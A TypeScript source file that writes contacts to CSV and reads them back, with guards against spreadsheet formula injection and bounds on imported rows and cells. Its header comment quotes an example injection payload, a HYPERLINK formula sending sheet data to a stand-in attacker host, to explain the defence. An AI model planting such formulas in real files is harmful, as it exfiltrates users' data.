/**
 * Contacts as CSV (RFC 4180, CRLF, UTF-8), written with papaparse.
 *
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or carriage
 * return) as a formula, and coworkers' contact fields are untrusted (a name
 * `=HYPERLINK("https://evil.example/?"&A1)` would send the sheet's data away). Every such cell is
 * written with a leading apostrophe, which spreadsheets read as "this is text" and do not show
 * (papaparse's `escapeFormulae`). Reading a CSV takes that apostrophe off again, so an E.164
 * number written as `'+4930…` comes back as `+4930…`.
 *
 * The guard has to hold for every reader, not only one that splits on commas: Excel splits a CSV
 * on the list separator of its locale (`;` in German, French, Dutch… Excel; a tab when pasted or
 * opened as text), so a name `Weber;=HYPERLINK(…);` would start a cell with `=` there. So every
 * cell holding a `;`, `,`, tab or quote is quoted (one cell for a reader of any separator that
 * meets it at the start of a cell), and, since a reader of another separator meets most cells in
 * the middle of one of its own (where quotes are plain characters), a formula character right
 * after a `;`, `,`, tab or line break inside a cell (quotes between them aside) gets the
 * apostrophe too: `Weber;'=HYPERLINK(…)`. Reading takes those apostrophes off again.
 */
import Papa from 'papaparse';
import { CallbarError } from '../errors';
import { said } from '../text/said';
import { readCsvRows } from './csv-reader';
import { FIELD_HEADINGS, RECORD_FIELDS, type ContactRecord } from './contact-record';

/** What starts a formula in a spreadsheet; such a cell is written after an apostrophe. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A cell neutralised by an export (or by hand, the same way). */
const NEUTRALISED = /^'[=+\-@\t\r]/;
/** A formula character where a reader splitting on `;`, `,`, a tab or lines starts a cell. */
const FORMULA_AFTER_SEPARATOR = /([;,\t\r\n]"*)(?=[=+\-@])/g;
/** The same, neutralised. */
const NEUTRALISED_AFTER_SEPARATOR = /([;,\t\r\n]"*)'(?=[=+\-@])/g;

/** What a reader in some locale splits cells on, besides line ends (and the quote). */
const SEPARATOR_OR_QUOTE = /[;,\t"]/;

const UNPARSE: Papa.UnparseConfig = {
  newline: '\r\n',
  escapeFormulae: FORMULA_START,
  quotes: (value: unknown) => SEPARATOR_OR_QUOTE.test(String(value)),
};

/** The heading line; with `phonebook`, a Phonebook column first (an export of every phonebook). */
export function csvHeading(withPhonebook: boolean): string {
  const headings = RECORD_FIELDS.map((field) => FIELD_HEADINGS[field]);
  return Papa.unparse([withPhonebook ? ['Phonebook', ...headings] : headings], UNPARSE) + '\r\n';
}

/** One line per contact, each ending in CRLF. */
export function csvLines(records: readonly ContactRecord[], phonebook?: string): string {
  if (records.length === 0) return '';
  const rows = records.map((record) => {
    const cells = RECORD_FIELDS.map((field) => cellText(record[field]));
    return phonebook === undefined ? cells : [cellText(phonebook), ...cells];
  });
  return Papa.unparse(rows, UNPARSE) + '\r\n';
}

/** Any cells as CSV lines (the failures report); formulas neutralised the same way. */
export function csvTable(rows: readonly (readonly (string | number | null)[])[]): string {
  return (
    Papa.unparse(
      rows.map((row) => row.map(cellText)),
      UNPARSE,
    ) + '\r\n'
  );
}

/** A cell's text, a formula character after a separator inside it neutralised (see above). */
function cellText(value: string | number | null): string {
  return value === null ? '' : String(value).replace(FORMULA_AFTER_SEPARATOR, "$1'");
}

/** A table read from CSV: its header cells and its rows (each as long as the header). */
export interface CsvTable {
  headers: string[];
  rows: string[][];
}

/** Bounds of a CSV an import reads (the file's size is bounded before this). */
export interface CsvBounds {
  maxRows: number;
  maxColumns: number;
}

/**
 * The longest cell read (a name is kept to 255 characters, which a row checks later: this bound
 * only stops a runaway cell, e.g. an unclosed quote, before it is held).
 */
export const MAX_CSV_CELL_CHARS = 64 * 1024;
/** The longest row read, from its first character to its line end. */
export const MAX_CSV_ROW_CHARS = 1024 * 1024;

/**
 * Parses `text` (first line: headings) in one bounded pass (csv-reader.ts). Blank lines are
 * skipped; a row with fewer cells than headings is padded, one with more is refused with its
 * line. Neutralised cells are restored.
 */
export function parseCsv(text: string, bounds: CsvBounds): CsvTable {
  let headers: string[] | undefined;
  const rows: string[][] = [];
  const read = readCsvRows(text, {
    maxCells: bounds.maxColumns,
    maxCellChars: MAX_CSV_CELL_CHARS,
    maxRowChars: MAX_CSV_ROW_CHARS,
  });
  for (const { cells, count, line } of read) {
    if (cells.every((cell) => cell.trim() === '')) continue;
    if (headers === undefined) {
      if (count > bounds.maxColumns) {
        throw new CallbarError(
          'import_too_large',
          said('errors:import.tooManyColumns', { columns: count, max: bounds.maxColumns }),
        );
      }
      headers = cells.map((cell) => restoreCell(cell).trim());
      continue;
    }
    if (count > headers.length) {
      throw new CallbarError(
        'import_unreadable',
        said('errors:import.tooManyCells', {
          row: line,
          cells: count,
          headings: headers.length,
        }),
      );
    }
    if (rows.length === bounds.maxRows) {
      throw new CallbarError(
        'import_too_large',
        said('errors:import.tooManyContacts', { max: bounds.maxRows }),
      );
    }
    const restored = cells.map(restoreCell);
    while (restored.length < headers.length) restored.push('');
    rows.push(restored);
  }
  if (headers === undefined) {
    throw new CallbarError('import_unreadable', said('errors:import.noHeadings'));
  }
  return { headers, rows };
}

/** A cell as it was before an export neutralised it. */
export function restoreCell(cell: string): string {
  const inside = cell.replace(NEUTRALISED_AFTER_SEPARATOR, '$1');
  return NEUTRALISED.test(inside) ? inside.slice(1) : inside;
}
